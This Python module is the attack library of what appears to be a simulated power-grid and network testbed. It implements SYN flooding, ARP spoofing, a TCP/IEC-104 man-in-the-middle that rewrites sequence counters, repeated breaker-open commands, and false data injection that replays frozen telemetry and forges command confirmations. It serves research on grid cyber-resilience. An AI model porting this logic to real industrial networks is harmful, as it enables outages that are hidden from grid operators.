"""Attack library: physical destruction, SYN flooding, ARP spoofing,
breaker-opening IEC-104 clients, and transparent false data injection.

The MITM machinery rewrites TCP sequence/acknowledgment numbers and
IEC-104 send/receive counters so that neither endpoint retransmits or
closes on a sequence error while the attacker drops, modifies and injects
application traffic in the middle. All attacks are cooperative tasks on
the simulation event loop, so a plan plus a seed replays identically.
"""

from __future__ import annotations

import bisect
from dataclasses import dataclass, field

from . import iec104
from .coordinator import Coordinator, GridRef
from .devices import Iec104Endpoint
from .iec104 import Apci, Asdu, InfoObject
from .netsim import wire
from .netsim.core import Network, s_to_ns
from .netsim.stack import Host
from .process import RngStreams

SEQ32 = 1 << 32
SEQ15 = 1 << 15


def _unwrap(mod_value: int, reference: int, modulo: int) -> int:
    """Absolute counter closest to `reference` that is ≡ mod_value."""
    base = reference - (reference % modulo) + mod_value
    candidates = (base - modulo, base, base + modulo)
    return min(candidates, key=lambda c: abs(c - reference))


# ---------------------------------------------------------------------------
# plans


@dataclass
class PhysicalPlan:
    attacker: str  # unused for physical access, kept for uniform reporting
    start_s: float
    ict_nodes: list[str] = field(default_factory=list)
    grid_elements: list[str] = field(default_factory=list)
    kind: str = "physical"


@dataclass
class SynFloodPlan:
    attacker: str
    start_s: float
    duration_s: float
    targets: list[str] = field(default_factory=list)  # target IPs
    target_port: int = 2404
    payload_bytes: int = 1400
    streams_per_target: int = 3
    source_net: str = "198.18.0.0"
    source_prefix: int = 15
    kind: str = "syn-flood"


@dataclass
class ArpSpoofPlan:
    attacker: str
    start_s: float
    duration_s: float
    victim_a: str = ""  # IP (e.g. the gateway-side victim)
    victim_b: str = ""  # IP (e.g. the RTU)
    mode: str = "blackhole"  # blackhole | forward
    period_s: float = 1.0
    kind: str = "arp-spoof"


@dataclass
class IndustroyerTarget:
    ip: str
    coa: int
    ioas: list[int]
    port: int = 2404
    open_value: bool = False  # wire value that opens the breaker


@dataclass
class IndustroyerPlan:
    attacker: str
    start_s: float
    duration_s: float = 120.0
    interval_s: float = 3.0
    targets: list[IndustroyerTarget] = field(default_factory=list)
    kind: str = "industroyer"


@dataclass
class FdiInjection:
    coa: int
    ioa: int
    value: float
    at_s: float | None = None  # None = at the end of the recording phase


@dataclass
class FdiPlan:
    attacker: str
    start_s: float
    duration_s: float
    gateway_ip: str = ""
    victim_ips: list[str] = field(default_factory=list)  # RTUs to intercept
    record_s: float = 60.0
    injections: list[FdiInjection] = field(default_factory=list)
    freeze: list[tuple[int, int]] = field(default_factory=list)  # (coa, ioa)
    suppress_coas: list[int] = field(default_factory=list)
    freeze_mode: str = "replay"  # replay | trend
    period_s: float = 1.0
    kind: str = "fdi"


AttackPlan = (PhysicalPlan | SynFloodPlan | ArpSpoofPlan | IndustroyerPlan
              | FdiPlan)


# ---------------------------------------------------------------------------
# physical


class PhysicalAttack:
    def __init__(self, plan: PhysicalPlan, net: Network,
                 coordinator: Coordinator):
        self.plan = plan
        self.net = net
        self.coordinator = coordinator

    def schedule(self) -> None:
        self.net.sched.call_at(s_to_ns(self.plan.start_s), self.execute)

    def execute(self) -> None:
        self.net.log("attack.start", attack="physical",
                     nodes=self.plan.ict_nodes,
                     elements=self.plan.grid_elements)
        for node in self.plan.ict_nodes:
            self.net.remove_node(node)
        for element in self.plan.grid_elements:
            self.coordinator.write(GridRef(element, "in_service"), False,
                                   origin="attack:physical")


# ---------------------------------------------------------------------------
# SYN flooding


class SynFloodAttack:
    """hping-style SYN generator: spoofed sources, fixed payload size,
    paced at the attacker link's serialization rate."""

    def __init__(self, plan: SynFloodPlan, host: Host, rng: RngStreams):
        self.plan = plan
        self.host = host
        self.rng = rng.get(f"attack:flood:{plan.attacker}")
        self.frames_sent = 0
        self._stop_ns = 0
        self._payload = bytes(plan.payload_bytes)
        self._targets: list[tuple[bytes, bytes]] = []  # (ip, mac)

    def schedule(self) -> None:
        self.host.net.sched.call_at(s_to_ns(self.plan.start_s), self._begin)

    def _begin(self) -> None:
        net = self.host.net
        net.log("attack.start", attack="syn-flood", targets=self.plan.targets,
                duration_s=self.plan.duration_s)
        self._stop_ns = net.sched.now_ns + s_to_ns(self.plan.duration_s)
        # resolve true target MACs first, then start the generators
        for ip in self.plan.targets:
            self.host.send_ip_packet(wire.Ipv4(
                self.host.ip, wire.ip_bytes(ip), wire.PROTO_ICMP,
                wire.Icmp(wire.ICMP_ECHO_REQUEST, 0, b"\x00\x01\x00\x01"),
                ident=self.host.next_ident()))
        self.host.call_later(0.5, self._arm)

    def _arm(self) -> None:
        now = self.host.now_ns
        self._targets = []
        for ip in self.plan.targets:
            ip_b = wire.ip_bytes(ip)
            mac = self.host.arp.lookup(ip_b, now)
            if mac is None and self.host.gateway_ip is not None:
                mac = self.host.arp.lookup(self.host.gateway_ip, now)
            if mac is None:
                self.host.net.log("attack.error", attack="syn-flood",
                                  detail=f"no path to {ip}")
                continue
            self._targets.append((ip_b, mac))
        if self._targets:
            self._emit(0)

    def _frame_len(self) -> int:
        return 14 + 20 + 20 + self.plan.payload_bytes

    def _emit(self, stream_index: int) -> None:
        now = self.host.now_ns
        if now >= self._stop_ns or not self.host.alive:
            self.host.net.log("attack.stop", attack="syn-flood",
                              frames=self.frames_sent)
            return
        ip_b, mac = self._targets[stream_index % len(self._targets)]
        src_ip = self._random_source()
        tcp = wire.Tcp(self.rng.randrange(1024, 65535), self.plan.target_port,
                       self.rng.randrange(SEQ32), 0, wire.SYN, 512,
                       self._payload)
        pkt = wire.Ipv4(src_ip, ip_b, wire.PROTO_TCP, tcp,
                        ident=self.host.next_ident())
        self.host.emit(wire.eth_ip(self.host.iface.mac, mac, pkt))
        self.frames_sent += 1
        link = self.host.iface.link
        gap = link.serialization_ns(self._frame_len())
        next_stream = (stream_index + 1) % (
            len(self._targets) * self.plan.streams_per_target)
        self.host.net.sched.call_in(gap, lambda: self._emit(next_stream))

    def _random_source(self) -> bytes:
        base = int.from_bytes(wire.ip_bytes(self.plan.source_net), "big")
        span = 1 << (32 - self.plan.source_prefix)
        return (base + self.rng.randrange(1, span - 1)).to_bytes(4, "big")


# ---------------------------------------------------------------------------
# ARP spoofing and the transparent MITM pipeline


class ArpSpoofCore:
    """Poison two victims so their mutual traffic detours via the attacker."""

    def __init__(self, host: Host, victim_a: str, victim_b: str,
                 period_s: float = 1.0):
        self.host = host
        self.a_ip = wire.ip_bytes(victim_a)
        self.b_ip = wire.ip_bytes(victim_b)
        self.period_s = period_s
        self.active = False
        self.a_mac: bytes | None = None
        self.b_mac: bytes | None = None

    def begin(self, on_ready=None) -> None:
        self._on_ready = on_ready
        for ip in (self.a_ip, self.b_ip):
            self.host._start_resolution(ip, self.host.iface, None)
        self.host.call_later(0.2, self._check_resolved)

    def _check_resolved(self) -> None:
        now = self.host.now_ns
        self.a_mac = self.host.arp.lookup(self.a_ip, now)
        self.b_mac = self.host.arp.lookup(self.b_ip, now)
        if self.a_mac is None or self.b_mac is None:
            self.host.call_later(0.5, self._check_resolved)
            return
        self.active = True
        if self._on_ready is not None:
            self._on_ready()
        self._poison()

    def _poison(self) -> None:
        if not self.active or not self.host.alive:
            return
        me = self.host.iface.mac
        # tell A that B's IP lives at the attacker MAC, and vice versa
        self.host.emit(wire.eth_arp(me, self.a_mac, wire.Arp(
            wire.ARP_REPLY, me, self.b_ip, self.a_mac, self.a_ip)))
        self.host.emit(wire.eth_arp(me, self.b_mac, wire.Arp(
            wire.ARP_REPLY, me, self.a_ip, self.b_mac, self.b_ip)))
        self.host.call_later(self.period_s, self._poison)

    def stop(self, restore: bool = False) -> None:
        """End poisoning; optionally re-arp the victims with true mappings
        (a careful attacker's teardown; omitted, caches take the timeout
        to recover)."""
        self.active = False
        if restore and self.a_mac is not None and self.b_mac is not None:
            me = self.host.iface.mac
            self.host.emit(wire.eth_arp(me, self.a_mac, wire.Arp(
                wire.ARP_REPLY, self.b_mac, self.b_ip,
                self.a_mac, self.a_ip)))
            self.host.emit(wire.eth_arp(me, self.b_mac, wire.Arp(
                wire.ARP_REPLY, self.a_mac, self.a_ip,
                self.b_mac, self.b_ip)))

    def true_mac_for(self, dst_ip: bytes) -> bytes | None:
        if dst_ip == self.a_ip:
            return self.a_mac
        if dst_ip == self.b_ip:
            return self.b_mac
        # off-pair destination: hand to the real gateway-side victim (A)
        return self.a_mac


class ArpSpoofAttack:
    """Blackhole or pass-through interception between two victims."""

    def __init__(self, plan: ArpSpoofPlan, host: Host):
        self.plan = plan
        self.host = host
        self.core = ArpSpoofCore(host, plan.victim_a, plan.victim_b,
                                 plan.period_s)
        self.dropped = 0
        self.forwarded = 0

    def schedule(self) -> None:
        self.host.net.sched.call_at(s_to_ns(self.plan.start_s), self._begin)
        self.host.net.sched.call_at(
            s_to_ns(self.plan.start_s + self.plan.duration_s), self._end)

    def _begin(self) -> None:
        self.host.net.log("attack.start", attack="arp-spoof",
                          mode=self.plan.mode,
                          victims=[self.plan.victim_a, self.plan.victim_b])
        self.host.packet_hook = self._hook
        self.core.begin()

    def _end(self) -> None:
        # forwarding-mode interceptors clean up after themselves; the
        # blackhole variant just vanishes and caches recover at timeout
        self.core.stop(restore=self.plan.mode == "forward")
        self.host.packet_hook = None
        self.host.net.log("attack.stop", attack="arp-spoof",
                          dropped=self.dropped, forwarded=self.forwarded)

    def _hook(self, frame: wire.Frame) -> bool:
        if frame.ethertype != wire.ETHERTYPE_IPV4:
            return False
        pkt: wire.Ipv4 = frame.payload
        if frame.dst_mac != self.host.iface.mac or pkt.dst in self.host.my_ips():
            return False
        if not self.core.active:
            return False
        if self.plan.mode == "blackhole":
            self.dropped += 1
            return True
        mac = self.core.true_mac_for(pkt.dst)
        if mac is None:
            self.dropped += 1
            return True
        self.forwarded += 1
        self.host.emit(wire.eth_ip(self.host.iface.mac, mac, pkt))
        return True


class _MitmDirection:
    """Byte/sequence bookkeeping for one direction of one TCP connection.

    ``last_ack_out`` / ``last_nr_out`` hold the highest acknowledgment
    *about this direction's stream* that was delivered to its sender, so
    rewritten acks can never regress at the endpoint.
    """

    __slots__ = ("in_nxt", "out_nxt", "buffer", "i_in", "i_out",
                 "last_ack_out", "last_nr_out", "primed", "i_primed",
                 "self_primed")

    def __init__(self):
        self.in_nxt = 0      # next original byte expected from the sender
        self.out_nxt = 0     # next byte the receiver expects (rewritten)
        self.buffer = b""    # APDU reassembly
        self.i_in = 0        # I-frames consumed (absolute)
        self.i_out = 0       # I-frames emitted (absolute)
        self.last_ack_out = 0
        self.last_nr_out = 0
        self.primed = False
        self.i_primed = False
        self.self_primed = False

    def prime_bytes(self, position: int) -> None:
        if not self.primed:
            self.in_nxt = self.out_nxt = position
            self.last_ack_out = position
            self.primed = True

    def prime_iframes(self, count: int) -> None:
        if not self.i_primed:
            self.i_in = self.i_out = count
            self.last_nr_out = count
            self.i_primed = True

    @property
    def delta(self) -> int:
        return self.out_nxt - self.in_nxt

    @property
    def i_delta(self) -> int:
        return self.i_out - self.i_in


class TransparentTcpMitm:
    """Per-connection APDU interception with seq/ack consistency.

    The handler decides what happens to each APDU; the pipeline keeps both
    endpoints' TCP and IEC-104 sequence expectations intact by shifting
    sequence numbers, synthesizing acknowledgements for suppressed bytes
    and renumbering injected traffic.
    """

    def __init__(self, host: Host, core: ArpSpoofCore, handler,
                 intercept_port: int = 2404):
        self.host = host
        self.core = core
        self.handler = handler  # fn(conn_key, direction, apci, asdu) -> action
        self.intercept_port = intercept_port
        # direction key: (src_ip, src_port, dst_ip, dst_port)
        self.dirs: dict[tuple, _MitmDirection] = {}

    # -- frame entry -----------------------------------------------------------

    def handle(self, pkt: wire.Ipv4) -> bool:
        """Process one redirected IP packet; returns True when consumed."""
        if pkt.proto != wire.PROTO_TCP or not isinstance(pkt.payload, wire.Tcp):
            return False
        tcp = pkt.payload
        if self.intercept_port not in (tcp.src_port, tcp.dst_port):
            return False
        dkey = (pkt.src, tcp.src_port, pkt.dst, tcp.dst_port)
        fwd = self.dirs.get(dkey)
        rev = self.dirs.get((pkt.dst, tcp.dst_port, pkt.src, tcp.src_port))
        if fwd is None:
            fwd = self.dirs[dkey] = _MitmDirection()
            rev = self.dirs[(pkt.dst, tcp.dst_port, pkt.src, tcp.src_port)] \
                = _MitmDirection()
        fwd.prime_bytes(tcp.seq)
        if tcp.flags & wire.ACK:
            rev.prime_bytes(tcp.ack)  # the ack field reveals the peer position
        self._process(dkey, pkt, tcp, fwd, rev)
        return True

    # -- core ---------------------------------------------------------------------

    def _process(self, dkey, pkt: wire.Ipv4, tcp: wire.Tcp,
                 fwd: _MitmDirection, rev: _MitmDirection) -> None:
        flags_seq_span = 1 if tcp.flags & (wire.SYN | wire.FIN) else 0
        seq_abs = _unwrap(tcp.seq, fwd.in_nxt, SEQ32)
        payload = tcp.payload

        if not fwd.self_primed:
            # the first frame seen from this sender: bytes that were in
            # flight on the direct path when interception began already
            # reached the receiver, so both stream cursors jump over them
            if payload or flags_seq_span:
                fwd.self_primed = True
                if seq_abs > fwd.in_nxt:
                    shift = seq_abs - fwd.in_nxt
                    fwd.in_nxt += shift
                    fwd.out_nxt += shift

        if payload and seq_abs < fwd.in_nxt:
            # retransmission of bytes we already consumed: re-ack, swallow
            self._synth_ack(dkey, fwd, rev)
            return

        out_payload = b""
        if payload:
            fwd.buffer += payload
            fwd.in_nxt = seq_abs + len(payload)
            out_payload = self._rewrite_stream(dkey, fwd, rev)
        else:
            fwd.in_nxt = max(fwd.in_nxt, seq_abs + flags_seq_span)

        if tcp.flags & (wire.SYN | wire.FIN | wire.RST) or not payload \
                or out_payload:
            out_seq = fwd.out_nxt
            fwd.out_nxt += len(out_payload) + flags_seq_span
            out_ack = tcp.ack
            if tcp.flags & wire.ACK:
                ack_abs = _unwrap(tcp.ack, rev.out_nxt, SEQ32)
                out_ack = max(ack_abs - rev.delta, rev.last_ack_out)
                rev.last_ack_out = out_ack
            out_tcp = wire.Tcp(tcp.src_port, tcp.dst_port, out_seq % SEQ32,
                               out_ack % SEQ32, tcp.flags, tcp.window,
                               out_payload)
            self._emit(pkt.src, pkt.dst, out_tcp, pkt.ttl)
        else:
            # all application bytes suppressed: the sender still needs an ack
            self._synth_ack(dkey, fwd, rev)

    def _rewrite_stream(self, dkey, fwd: _MitmDirection,
                        rev: _MitmDirection) -> bytes:
        out = bytearray()
        while True:
            try:
                apci, asdu, used = iec104.decode_apdu_stream(fwd.buffer)
            except iec104.TruncatedApdu:
                break
            except (iec104.FramingError, iec104.UnsupportedType):
                # not parseable: pass the raw bytes through untouched
                out += fwd.buffer
                fwd.buffer = b""
                break
            raw = fwd.buffer[:used]
            fwd.buffer = fwd.buffer[used:]
            if apci.format == "I":
                fwd.prime_iframes(apci.send_seq)
                rev.prime_iframes(apci.recv_seq)
                action, new_asdu = self.handler(dkey, apci, asdu)
                if action == "drop":
                    fwd.i_in += 1
                    continue
                out += iec104.encode_apdu(
                    Apci.i(fwd.i_out % SEQ15,
                           self._nr_toward_receiver(rev)),
                    new_asdu if new_asdu is not None else asdu)
                fwd.i_in += 1
                fwd.i_out += 1
            elif apci.format == "S":
                rev.prime_iframes(apci.recv_seq)
                nr = self._rewrite_nr(apci.recv_seq, rev)
                out += iec104.encode_apdu(Apci.s(nr))
            else:
                out += raw
        return bytes(out)

    def _nr_toward_receiver(self, rev: _MitmDirection) -> int:
        """N(R) value acknowledging the receiver's own I-frames."""
        rev.last_nr_out = max(rev.last_nr_out, rev.i_in)
        return rev.last_nr_out % SEQ15

    def _rewrite_nr(self, nr_mod: int, rev: _MitmDirection) -> int:
        nr_abs = _unwrap(nr_mod, rev.i_out, SEQ15)
        nr = max(nr_abs - rev.i_delta, rev.last_nr_out)
        rev.last_nr_out = nr
        return nr % SEQ15

    # -- synthesis ------------------------------------------------------------------

    def _synth_ack(self, dkey, fwd: _MitmDirection,
                   rev: _MitmDirection) -> None:
        """Pure ACK toward the sender of `dkey`, impersonating the receiver."""
        if not rev.primed:
            return  # no believable sequence base yet
        src_ip, src_port, dst_ip, dst_port = dkey
        ack = max(fwd.in_nxt, fwd.last_ack_out)
        fwd.last_ack_out = ack
        tcp = wire.Tcp(dst_port, src_port, rev.out_nxt % SEQ32,
                       ack % SEQ32, wire.ACK, 65535)
        self._emit(dst_ip, src_ip, tcp, 64)

    def inject_asdu(self, dkey, asdu: Asdu) -> None:
        """Insert an I-frame into direction `dkey` as if sent by its source."""
        src_ip, src_port, dst_ip, dst_port = dkey
        fwd = self.dirs.get(dkey)
        rev = self.dirs.get((dst_ip, dst_port, src_ip, src_port))
        if fwd is None or rev is None or not fwd.primed \
                or not fwd.i_primed:
            self.host.net.log("attack.error", attack="mitm",
                              detail="no live connection for injection")
            return
        body = iec104.encode_apdu(
            Apci.i(fwd.i_out % SEQ15, self._nr_toward_receiver(rev)), asdu)
        fwd.i_out += 1
        ack = max(rev.in_nxt, rev.last_ack_out)
        rev.last_ack_out = ack
        tcp = wire.Tcp(src_port, dst_port, fwd.out_nxt % SEQ32,
                       ack % SEQ32, wire.ACK | wire.PSH, 65535, body)
        fwd.out_nxt += len(body)
        self._emit(src_ip, dst_ip, tcp, 64)

    def _emit(self, src_ip: bytes, dst_ip: bytes, tcp: wire.Tcp,
              ttl: int) -> None:
        mac = self.core.true_mac_for(dst_ip)
        if mac is None:
            return
        pkt = wire.Ipv4(src_ip, dst_ip, wire.PROTO_TCP, tcp, ttl=ttl,
                        ident=self.host.next_ident())
        self.host.emit(wire.eth_ip(self.host.iface.mac, mac, pkt))


# ---------------------------------------------------------------------------
# Industroyer-style breaker attack


class IndustroyerAttack:
    """IEC-104 client hammering breaker-open commands at fixed cadence."""

    def __init__(self, plan: IndustroyerPlan, host: Host):
        self.plan = plan
        self.host = host
        self.commands_sent = 0
        self._stop_ns = 0
        self._endpoints: dict[str, Iec104Endpoint] = {}

    def schedule(self) -> None:
        self.host.net.sched.call_at(s_to_ns(self.plan.start_s), self._begin)

    def _begin(self) -> None:
        self.host.net.log("attack.start", attack="industroyer",
                          targets=[t.ip for t in self.plan.targets],
                          interval_s=self.plan.interval_s)
        self._stop_ns = self.host.now_ns + s_to_ns(self.plan.duration_s)
        for target in self.plan.targets:
            self._connect(target)

    def _connect(self, target: IndustroyerTarget) -> None:
        if self.host.now_ns >= self._stop_ns:
            return
        self.host.tcp_connect(
            target.ip, target.port,
            on_established=lambda conn: self._established(target, conn),
            on_closed=lambda conn, reason: self._lost(target, reason))

    def _established(self, target: IndustroyerTarget, conn) -> None:
        endpoint = Iec104Endpoint(
            self.host, conn, is_controller=True,
            on_started=lambda ep, started: started and self._loop(target),
            on_close=lambda ep, reason: None)
        self._endpoints[target.ip] = endpoint
        endpoint.start_data_transfer()

    def _lost(self, target: IndustroyerTarget, reason: str) -> None:
        endpoint = self._endpoints.pop(target.ip, None)
        if endpoint is not None:
            endpoint.shutdown()
        if self.host.now_ns < self._stop_ns:
            self.host.call_later(1.0, lambda: self._connect(target))

    def _loop(self, target: IndustroyerTarget) -> None:
        endpoint = self._endpoints.get(target.ip)
        if endpoint is None or endpoint.closed:
            return
        if self.host.now_ns >= self._stop_ns:
            self.host.net.log("attack.stop", attack="industroyer",
                              commands=self.commands_sent)
            endpoint.tcp.close()
            endpoint.shutdown()
            self._endpoints.pop(target.ip, None)
            return
        for ioa in target.ioas:
            endpoint.send_asdu(Asdu(
                iec104.C_SC_NA_1, iec104.COT_ACTIVATION, target.coa,
                (InfoObject(ioa, target.open_value),)))
            self.commands_sent += 1
        self.host.net.log("attack.command-burst", attack="industroyer",
                          coa=target.coa, ioas=len(target.ioas))
        self.host.call_later(self.plan.interval_s, lambda: self._loop(target))


# ---------------------------------------------------------------------------
# false data injection


class FdiAttack:
    """Record, inject shutdown commands, then freeze telemetry (replay)."""

    def __init__(self, plan: FdiPlan, host: Host):
        self.plan = plan
        self.host = host
        self.phase = "idle"  # idle -> record -> active -> done
        self.freeze = set(map(tuple, plan.freeze))
        self.suppress_coas = set(plan.suppress_coas)
        self.recordings: dict[tuple[int, int], list[tuple[int, float]]] = {}
        self.uncovered: set[tuple[int, int]] = set()
        self._suppress_expected: dict[tuple[int, int, int], int] = {}
        self._record_start_ns = 0
        self._active_start_ns = 0
        self.cores: list[ArpSpoofCore] = []
        self.mitms: list[TransparentTcpMitm] = []
        self._conn_by_coa: dict[int, tuple] = {}

    def schedule(self) -> None:
        sched = self.host.net.sched
        sched.call_at(s_to_ns(self.plan.start_s), self._begin)
        if self.plan.record_s > 0:
            sched.call_at(s_to_ns(self.plan.start_s + self.plan.record_s),
                          self._activate)
        for inj in self.plan.injections:
            if inj.at_s is not None:
                sched.call_at(s_to_ns(inj.at_s),
                              lambda i=inj: self._inject(i))
        sched.call_at(s_to_ns(self.plan.start_s + self.plan.duration_s),
                      self._end)

    def _begin(self) -> None:
        self.phase = "record" if self.plan.record_s > 0 else "active"
        self._record_start_ns = self.host.now_ns
        self.host.net.log("attack.start", attack="fdi", phase=self.phase,
                          victims=self.plan.victim_ips)
        for victim in self.plan.victim_ips:
            core = ArpSpoofCore(self.host, self.plan.gateway_ip, victim,
                                self.plan.period_s)
            mitm = TransparentTcpMitm(self.host, core, self._handler)
            self.cores.append(core)
            self.mitms.append(mitm)
            core.begin()
        self.host.packet_hook = self._hook

    def _activate(self) -> None:
        self.phase = "active"
        self._active_start_ns = self.host.now_ns
        self.host.net.log("attack.phase", attack="fdi", phase="active",
                          recorded_points=len(self.recordings))
        for inj in self.plan.injections:
            if inj.at_s is None:
                self._inject(inj)

    def _end(self) -> None:
        self.phase = "done"
        for core in self.cores:
            core.stop(restore=True)
        # keep plain forwarding for frames still addressed to us until the
        # corrective ARP replies take effect
        self.host.net.log("attack.stop", attack="fdi",
                          uncovered=sorted(self.uncovered))

    # -- interception ------------------------------------------------------------

    def _hook(self, frame: wire.Frame) -> bool:
        if frame.ethertype != wire.ETHERTYPE_IPV4:
            return False
        pkt: wire.Ipv4 = frame.payload
        if frame.dst_mac != self.host.iface.mac or pkt.dst in self.host.my_ips():
            return False
        core, mitm = self._route(pkt)
        if core is None:
            return False
        if self.phase != "done" and mitm.handle(pkt):
            return True
        mac = core.true_mac_for(pkt.dst)
        if mac is None:
            return True
        self.host.emit(wire.eth_ip(self.host.iface.mac, mac, pkt))
        return True

    def _route(self, pkt: wire.Ipv4):
        for core, mitm in zip(self.cores, self.mitms):
            if core.a_mac is None or core.b_mac is None:
                continue
            if pkt.dst in (core.a_ip, core.b_ip) or pkt.src == core.b_ip:
                return core, mitm
        return None, None

    # -- APDU handler ----------------------------------------------------------------

    def _handler(self, dkey, apci: Apci, asdu: Asdu | None):
        """Returns (action, replacement_asdu) for one intercepted I-frame."""
        if asdu is None:
            return "pass", None
        src_port_is_server = dkey[1] == 2404
        if asdu.type_id in (iec104.M_SP_NA_1, iec104.M_ME_NC_1):
            self._conn_by_coa.setdefault(asdu.coa, self._reverse(dkey))
            return self._handle_monitoring(asdu)
        if src_port_is_server:
            return self._handle_from_rtu(asdu)
        return self._handle_from_mtu(dkey, asdu)

    @staticmethod
    def _reverse(dkey):
        src_ip, src_port, dst_ip, dst_port = dkey
        return (dst_ip, dst_port, src_ip, src_port)

    def _handle_monitoring(self, asdu: Asdu):
        key = (asdu.coa, asdu.objects[0].ioa)
        now = self.host.now_ns
        if self.phase == "record" and key in self.freeze:
            self.recordings.setdefault(key, []).append(
                (now - self._record_start_ns, float(asdu.objects[0].value)))
            return "pass", None
        if self.phase == "active" and key in self.freeze \
                and asdu.type_id == iec104.M_ME_NC_1:
            samples = self.recordings.get(key)
            if not samples:
                if key not in self.uncovered:
                    self.uncovered.add(key)
                    self.host.net.log("attack.fdi-uncovered", coa=key[0],
                                      ioa=key[1])
                return "pass", None
            value = self._replay_value(samples, now)
            obj = asdu.objects[0]
            return "modify", Asdu(asdu.type_id, asdu.cot, asdu.coa,
                                  (InfoObject(obj.ioa, value, obj.quality),))
        return "pass", None

    def _replay_value(self, samples: list[tuple[int, float]],
                      now: int) -> float:
        window = max(s_to_ns(self.plan.record_s), 1)
        offset = (now - self._active_start_ns) % window
        times = [t for t, _ in samples]
        idx = bisect.bisect_right(times, offset) - 1
        if idx < 0:
            idx = len(samples) - 1  # wrap to the tail of the recording
        if self.plan.freeze_mode == "trend":
            # linear trend continuation instead of cyclic replay
            if len(samples) >= 2:
                (t0, v0), (t1, v1) = samples[0], samples[-1]
                if t1 > t0:
                    slope = (v1 - v0) / (t1 - t0)
                    return v1 + slope * (now - self._active_start_ns)
            return samples[-1][1]
        return samples[idx][1]

    def _handle_from_rtu(self, asdu: Asdu):
        # confirmations of commands we injected get swallowed
        if asdu.type_id in (iec104.C_SC_NA_1, iec104.C_SE_NC_1) \
                and asdu.cot in (iec104.COT_ACTIVATION_CON,
                                 iec104.COT_ACTIVATION_TERM):
            key = (asdu.coa, asdu.objects[0].ioa, asdu.cot)
            if self._suppress_expected.get(key, 0) > 0:
                self._suppress_expected[key] -= 1
                self.host.net.log("attack.fdi-suppress", what="confirmation",
                                  coa=asdu.coa, ioa=asdu.objects[0].ioa,
                                  cot=asdu.cot)
                return "drop", None
        return "pass", None

    def _handle_from_mtu(self, dkey, asdu: Asdu):
        if self.phase != "active":
            return "pass", None
        if asdu.type_id in (iec104.C_SC_NA_1, iec104.C_SE_NC_1) \
                and asdu.cot == iec104.COT_ACTIVATION \
                and asdu.coa in self.suppress_coas:
            self.host.net.log("attack.fdi-suppress", what="command",
                              coa=asdu.coa, ioa=asdu.objects[0].ioa)
            # fake the positive lifecycle back to the control center
            mitm = self._mitm_for(dkey)
            if mitm is not None:
                reverse = self._reverse(dkey)
                mitm.inject_asdu(reverse, Asdu(
                    asdu.type_id, iec104.COT_ACTIVATION_CON, asdu.coa,
                    asdu.objects))
                mitm.inject_asdu(reverse, Asdu(
                    asdu.type_id, iec104.COT_ACTIVATION_TERM, asdu.coa,
                    asdu.objects))
            return "drop", None
        return "pass", None

    def _mitm_for(self, dkey) -> TransparentTcpMitm | None:
        for mitm in self.mitms:
            if dkey in mitm.dirs:
                return mitm
        return None

    # -- command injection ---------------------------------------------------------

    def _inject(self, inj: FdiInjection) -> None:
        dkey = self._conn_by_coa.get(inj.coa)
        mitm = self._mitm_for(dkey) if dkey else None
        if mitm is None:
            self.host.net.log("attack.error", attack="fdi",
                              detail=f"no connection toward COA {inj.coa}")
            return
        asdu = Asdu(iec104.C_SE_NC_1, iec104.COT_ACTIVATION, inj.coa,
                    (InfoObject(inj.ioa, float(inj.value)),))
        mitm.inject_asdu(dkey, asdu)
        self._suppress_expected[(inj.coa, inj.ioa, iec104.COT_ACTIVATION_CON)] \
            = self._suppress_expected.get(
                (inj.coa, inj.ioa, iec104.COT_ACTIVATION_CON), 0) + 1
        self._suppress_expected[(inj.coa, inj.ioa, iec104.COT_ACTIVATION_TERM)] \
            = self._suppress_expected.get(
                (inj.coa, inj.ioa, iec104.COT_ACTIVATION_TERM), 0) + 1
        self.host.net.log("attack.fdi-inject", coa=inj.coa, ioa=inj.ioa,
                          value=inj.value)
